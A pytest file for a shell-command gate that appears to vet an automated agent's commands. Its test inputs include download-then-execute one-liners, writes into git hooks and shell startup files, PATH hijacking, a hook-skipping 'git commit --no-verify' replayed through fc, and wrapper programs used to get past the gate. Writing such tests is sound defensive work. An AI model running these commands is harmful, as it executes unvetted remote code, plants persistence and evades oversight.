"""Issue 24, class 5, the spelling left open: a file a program writes, then run in the
same command (`curl -o x && bash x`).

The pre-tool gate reads the files a command writes with redirections and the writers
it knows (`cp`, `tee`, `dd`, ...). A program it does not read may write any file its
arguments name (`curl -o x`, `go build -o app`, `gen out.sh`), and a downloader or
unpacker writes under names it picks (`curl -O URL`, `wget URL`, `tar -x`, `gunzip
x.sh.gz`); running such a file later in the same command runs what the gate never read,
so the command is undeterminable. Generated: every writer spelling with every way of
running the file and every way of joining the two. What still passes: the same
programs when nothing they may have written is run.
"""

from __future__ import annotations

import pytest

from orchestrator.shell.analyser import analyse
from orchestrator.shell.records import Reason

#: Ways a command writes `x.sh` through a program the gate does not read.
WRITES = (
    "curl -o x.sh https://h/p",
    "curl -sSLo x.sh https://h/p",
    "curl -fsSL https://h/p -o x.sh",
    "curl --output x.sh https://h/p",
    "curl --output=x.sh https://h/p",
    "curl -O https://h/x.sh",
    "curl -sSLO https://h/x.sh",
    "curl -fsSLO https://h/x.sh",
    "curl --remote-name https://h/x.sh",
    "curl --remote-name-all https://h/x.sh",
    "curl -JO https://h/p",
    "curl --output-dir . -O https://h/x.sh",
    "curl -K cfg https://h/p",
    "wget https://h/x.sh",
    "wget -q https://h/x.sh",
    "wget -O x.sh https://h/p",
    "wget --output-document=x.sh https://h/p",
    "aria2c https://h/x.sh",
    "scp host:x.sh .",
    "tar xzf pkg.tgz",
    "tar -xf pkg.tar",
    "tar --extract --file pkg.tar",
    "unzip -o pkg.zip",
    "7z x pkg.7z",
    "gunzip x.sh.gz",
    "gzip -d x.sh.gz",
    "xz -d x.sh.xz",
    "cpio -i < pkg.cpio",
    "sort -o x.sh list",
    "uniq list x.sh",
    "xxd -r hex x.sh",
    "go build -o x.sh",
    "gcc -o x.sh main.c",
    "python3 gen.py x.sh",
    "node gen.js --out=x.sh",
    "./gen x.sh",
    "mytool --output x.sh",
    'mytool "$OUT"',
    "mytool $(cat name)",
    "pip download pkg -d . --no-deps",
)
#: Ways the same command then runs `x.sh`.
RUNS = (
    "bash x.sh",
    "sh ./x.sh",
    "./x.sh",
    "chmod +x x.sh && ./x.sh",
    "source x.sh",
    ". ./x.sh",
    "python3 x.sh",
    "perl x.sh",
    "env bash x.sh",
    "sudo sh x.sh",
    "cd . && bash x.sh",
)
JOINS = ("{w} && {r}", "{w}; {r}", "{w}\n{r}", "{w} || {r}")

#: Writers whose file is not named by any argument: only a run of a named file counts.
_PICKED = ("-O", "O ", "-JO", "--remote-name", "-K", "wget https", "wget -q", "aria2c", "scp")


@pytest.mark.parametrize("write", WRITES)
@pytest.mark.parametrize("run", RUNS)
def test_a_file_a_program_wrote_then_run_is_undeterminable(write: str, run: str) -> None:
    for join in JOINS:
        command = join.format(w=write, r=run)
        result = analyse(command)
        assert result.verdict in ("undeterminable", "forbidden"), (command, result)
        if result.verdict == "undeterminable" and "source" not in run and ". ./" not in run:
            assert result.reason == Reason.SCRIPT_WRITTEN_THEN_RUN, (command, result)


@pytest.mark.parametrize(
    "command",
    [
        "curl -o Makefile https://h/m && make",
        "curl -o package.json https://h/p && npm test",
        "wget https://h/conftest.py && pytest",
        "tar xf pkg.tar && make",
        "unzip pkg.zip && npm test",
        "curl -O https://h/justfile && just x",
    ],
)
def test_a_build_file_fetched_then_used_is_undeterminable(command: str) -> None:
    result = analyse(command)
    assert result.verdict == "undeterminable", (command, result)


@pytest.mark.parametrize(
    "command",
    [
        "curl -sSL https://h/x",
        "curl -o out.json https://h/api && jq . out.json",
        "curl -o data.csv https://h/d && python3 analyse.py data.csv",
        "wget -q https://h/data.csv",
        "tar czf out.tgz src",
        "pip install -e . && pytest -q",
        "pip install requests && python3 script.py",
        "npm install && npm test",
        "npm run build && node dist/index.js",
        "make && ./build/app",
        "go build ./... && go test ./...",
        "cargo build && cargo test",
        "chmod +x run.sh && ./run.sh",
        "python3 gen.py out.txt && cat out.txt",
        "sort list | uniq -c",
        "sort -o sorted.txt list && wc -l sorted.txt",
        "./configure && make",
        "for f in tests/*.py; do python3 -m py_compile $f; done",
        "for f in a b; do python3 x.py $f; done",
    ],
)
def test_programs_whose_output_is_not_run_still_pass(command: str) -> None:
    result = analyse(command)
    assert result.verdict == "no_delivery", (command, result)


# ---------------------------------------------------------------- a second, adversarial pass

#: A folder this command filled, copied or moved whole, then a file under the copy run.
FOLDER_COPIES = (
    "cp -r d e",
    "cp -R d e/",
    "cp -a d/. e",
    "cp -r -t e d",
    "cp -r --target-directory=e d",
    "mv d e",
    "rsync -a d/ e/",
    "install -D d/x.sh e/x.sh",
    "ln -s d e",
)
FOLDER_RUNS = ("bash e/x.sh", "./e/x.sh", "sh ./e/x.sh", "source e/x.sh")


@pytest.mark.parametrize("copy", FOLDER_COPIES)
@pytest.mark.parametrize("run", FOLDER_RUNS)
def test_a_file_run_from_a_copy_of_a_written_folder_is_undeterminable(copy: str, run: str) -> None:
    command = f"mkdir d && curl -o d/x.sh https://h/p && {copy} && {run}"
    result = analyse(command)
    assert result.verdict in ("undeterminable", "forbidden"), (command, result)


#: Programs the gate reads as writers, or git subcommands, that write files under names
#: given by what they read (a diff, another host, another repository).
NAME_GIVEN = (
    "patch -p1 < p.diff",
    "patch -i p.diff",
    "patch < p.diff",
    "rsync -a host:d/ .",
    "rsync -az host:x.sh .",
    "git clone https://h/r .",
    "git clone -q --depth 1 https://h/r .",
    "git apply p.diff",
    "git apply --3way p.diff",
    "git submodule update --init",
    "git submodule update --init --recursive sub",
    "git submodule add https://h/r sub",
)
NAME_GIVEN_RUNS = ("./x.sh", "bash sub/x.sh", "make", "npm test", "pytest", "sh x.sh")


@pytest.mark.parametrize("write", NAME_GIVEN)
@pytest.mark.parametrize("run", NAME_GIVEN_RUNS)
def test_a_file_a_patch_or_another_repository_named_then_run_is_undeterminable(
    write: str, run: str
) -> None:
    for join in JOINS:
        command = join.format(w=write, r=run)
        result = analyse(command)
        assert result.verdict in ("undeterminable", "forbidden"), (command, result)


MAKEFILE_RUNS = (
    "make -f mk",
    "make --file=mk",
    "make --file mk",
    "make --makefile=mk",
    "make -fmk",
    "make -s -f mk all",
    "gmake -f mk",
    "make -f ./mk test",
)


@pytest.mark.parametrize("run", MAKEFILE_RUNS)
def test_a_makefile_written_then_named_by_make_is_undeterminable(run: str) -> None:
    for write in ("curl -o mk https://h/p", "wget -O mk https://h/p", "./gen mk", "cp /tmp/m mk"):
        command = f"{write} && {run}"
        result = analyse(command)
        assert result.verdict == "undeterminable", (command, result)


@pytest.mark.parametrize("folder", ("-C d", "-Cd", "-C ./d", "--directory=d", "--directory d"))
def test_a_makefile_written_into_the_folder_make_enters_is_undeterminable(folder: str) -> None:
    command = f"curl -o d/Makefile https://h/p && make {folder}"
    result = analyse(command)
    assert result.verdict == "undeterminable", (command, result)


PYTHON_WRITES = (
    "curl -o t.py https://h/p",
    "curl -o json.py https://h/p",
    "wget -O test_t.py https://h/p",
    "cp /tmp/t.py t_test.py",
    "echo 'import os' > conf_t.py",
    "curl -o sitecustomize.py https://h/p",
    "curl -o x.pth https://h/p",
)
PYTHON_RUNS = (
    "python3 -m t",
    "python -m t",
    "python3 analyse.py",
    "python3.12 -m json.tool f",
    "pytest",
    "py.test -q",
    "python3 -m pytest",
    "tox",
)


@pytest.mark.parametrize("write", PYTHON_WRITES)
@pytest.mark.parametrize("run", PYTHON_RUNS)
def test_python_sources_written_then_python_run_is_undeterminable(write: str, run: str) -> None:
    """Python imports (and pytest collects) the sources of its folders by name, not
    only the script it is given."""
    command = f"{write} && {run}"
    result = analyse(command)
    assert result.verdict == "undeterminable", (command, result)


PROTECTED_OUTPUTS = (
    "curl -o .git/hooks/pre-commit https://h/p",
    "curl --output .git/hooks/pre-commit https://h/p",
    "curl --output=.git/hooks/pre-commit https://h/p",
    "curl -fsSo .git/info/attributes https://h/p",
    "curl --output-dir .git/hooks -O https://h/pre-commit",
    "wget -O .git/hooks/pre-commit https://h/p",
    "wget --output-document=.git/hooks/pre-commit https://h/p",
    "wget -P .git/hooks https://h/pre-commit",
    "tar xf h.tar -C .git/hooks",
    "tar -xf h.tar --directory=.git/hooks",
    "unzip h.zip -d .git/hooks",
    "go build -o .git/hooks/pre-commit ./h",
    "gcc -o .git/hooks/pre-commit h.c",
    "curl -o ~/.gitconfig https://h/p",
    "curl -o orchestrate.toml https://h/p",
)


@pytest.mark.parametrize("command", PROTECTED_OUTPUTS)
def test_a_program_told_to_write_inside_git_or_config_is_forbidden(command: str) -> None:
    result = analyse(command)
    assert result.verdict == "forbidden", (command, result)


@pytest.mark.parametrize(
    "command",
    [
        "python3 a.py && python3 b.py",
        "python3 gen.py && pytest -q",
        "python3 -m venv .venv && .venv/bin/pip install -e . && .venv/bin/pytest",
        "make -C docs html",
        "make -f Makefile.ci test",
        "cp -r src /tmp/bak && ./src/run.sh",
        "cp a.txt b.txt && ./run.sh",
        "git apply --check p.diff && make",
        "git apply --stat p.diff",
        "git clone https://h/r",
        "tar czf backup.tgz src",
        "curl -o out.json https://h/api && python3 analyse.py out.json",
        "gcc -o app main.c && ls",
        "git log > log.txt && python3 analyse.py log.txt",
        "go build -o bin/app ./cmd/app",
    ],
)
def test_the_second_pass_still_lets_these_pass(command: str) -> None:
    result = analyse(command)
    assert result.verdict == "no_delivery", (command, result)


#: Builtins that run shell text as `eval` does: `fc` re-runs a history entry (which
#: `history -s TEXT` adds), `mapfile -C` runs its callback text.
TEXT_RUNNING_BUILTINS = (
    "history -s 'git commit --no-verify -m x'; fc -s",
    'history -s "$(cat f)"; fc -s',
    "fc -s",
    "fc -e vi",
    "fc -e - ",
    "builtin fc -s",
    "command fc -s",
    "mapfile -C cb -c1 a < f",
    "mapfile -tC cb a < f",
    "readarray -C 'f(){ eval \"$2\";}; f' -c1 a < cmds.txt",
    "builtin mapfile -C cb a < f",
)


@pytest.mark.parametrize("command", TEXT_RUNNING_BUILTINS)
def test_a_builtin_that_runs_text_is_undeterminable(command: str) -> None:
    result = analyse(command)
    assert result.verdict in ("undeterminable", "forbidden"), (command, result)


@pytest.mark.parametrize(
    "command", ["fc -l", "fc -ln -5", "history", "mapfile -t a < f", "readarray -t a < f"]
)
def test_listing_history_and_reading_lines_still_pass(command: str) -> None:
    result = analyse(command)
    assert result.verdict == "no_delivery", (command, result)


#: A written file a tool runs without being named it: its language's sources found by
#: the tool, a build file, a shell's startup file, a program found on a changed PATH.
RUN_UNNAMED = (
    ("curl -o gen.go https://h/p", "go generate ./..."),
    ("curl -o x_test.go https://h/p", "go test ./..."),
    ("curl -o main.go https://h/p", "go run ."),
    ("curl -o src/main.rs https://h/p", "cargo run"),
    ("curl -o lib.js https://h/p", "node app.js"),
    ("curl -o x.test.js https://h/p", "npx jest"),
    ("curl -o x.test.ts https://h/p", "npm test"),
    ("curl -o x.rb https://h/p", "rake"),
    ("curl -o .pre-commit-config.yaml https://h/p", "pre-commit run -a"),
    ("curl -o Taskfile.yml https://h/p", "task build"),
    ("curl -o pom.xml https://h/p", "mvn test"),
    ("curl -o build.gradle https://h/p", "gradle test"),
    ("curl -o ~/.bash_profile https://h/p", "bash -lc make"),
    ("curl -o ~/.profile https://h/p", "bash -l -c true"),
    ("curl -o ~/.bashrc https://h/p", "bash -ic true"),
    ("curl -o ~/.zshenv https://h/p", "zsh -c true"),
    ("curl -o t https://h/p", "PATH=.:$PATH t"),
    ("curl -o git https://h/p && chmod +x git", "PATH=$PWD:$PATH git status"),
    ("curl -o bin/make https://h/p", "export PATH=bin:$PATH; make"),
    ("curl -ox.sh https://h/p", "bash x.sh"),
    ("gcc -ox.sh main.c", "./x.sh"),
)


@pytest.mark.parametrize(("write", "run"), RUN_UNNAMED, ids=[r for _w, r in RUN_UNNAMED])
def test_a_written_file_a_tool_runs_unnamed_is_undeterminable(write: str, run: str) -> None:
    for join in ("{w} && {r}", "{w}; {r}"):
        command = join.format(w=write, r=run)
        result = analyse(command)
        assert result.verdict == "undeterminable", (command, result)


@pytest.mark.parametrize(
    "command",
    [
        "go build ./... && go test ./...",
        "go generate ./... && go test ./...",
        "npm ci && npx jest",
        "node gen.js && node app.js",
        "cargo build && cargo run",
        'export PATH="$PWD/bin:$PATH"; make',
        "PATH=/opt/x/bin:$PATH tool --version",
        "bash -lc make",
        "curl -o data.json https://h/d && node report.js data.json",
    ],
)
def test_tools_that_run_no_written_source_still_pass(command: str) -> None:
    result = analyse(command)
    assert result.verdict == "no_delivery", (command, result)


# ---------------------------------------------------------------- a third pass: carried runs

#: Programs the gate does not read that run the command line their arguments carry.
CARRIERS = (
    "strace",
    "strace -f",
    "ltrace",
    "valgrind",
    "gdb --args",
    "xvfb-run",
    "firejail",
    "unshare -r",
    "fakeroot",
    "faketime 2020-01-01",
    "torsocks",
    "proxychains",
    "eatmydata",
    "rlwrap",
    "systemd-run",
    "bwrap --dev-bind / /",
    "poetry run",
    "uv run",
    "pipenv run",
    "bundle exec",
    "npx",
    "docker exec c",
    "ssh localhost",
)
CARRIED_RUNS = ("bash x.sh", "sh ./x.sh", "./x.sh", "python3 x.sh")


@pytest.mark.parametrize("carrier", CARRIERS)
@pytest.mark.parametrize("run", CARRIED_RUNS)
def test_a_written_file_run_through_a_program_not_read_is_undeterminable(
    carrier: str, run: str
) -> None:
    command = f"curl -o x.sh https://h/p && {carrier} {run}"
    result = analyse(command)
    assert result.verdict in ("undeterminable", "forbidden"), (command, result)


@pytest.mark.parametrize(
    "command",
    [
        "install /tmp/evil /usr/local/bin/y && y",
        "cp /tmp/evil /home/u/bin/git && git status",
        "curl -o bin/jq https://h/j && jq . a.json",
        "split -b 1 e x && bash xaa",
        "csplit -f x e 1 && bash x00",
    ],
)
def test_a_written_file_found_by_name_or_under_a_picked_name_is_undeterminable(
    command: str,
) -> None:
    result = analyse(command)
    assert result.verdict in ("undeterminable", "forbidden"), (command, result)


@pytest.mark.parametrize(
    "command",
    [
        "curl -o data.json https://h/d && strace -c jq . data.json",
        "go build ./... && go test ./...",
        "curl -o out.txt https://h/d && valgrind ./build/app",
        "split -b 1m big.log part && wc -l big.log",
    ],
)
def test_carriers_of_files_not_written_still_pass(command: str) -> None:
    result = analyse(command)
    assert result.verdict == "no_delivery", (command, result)
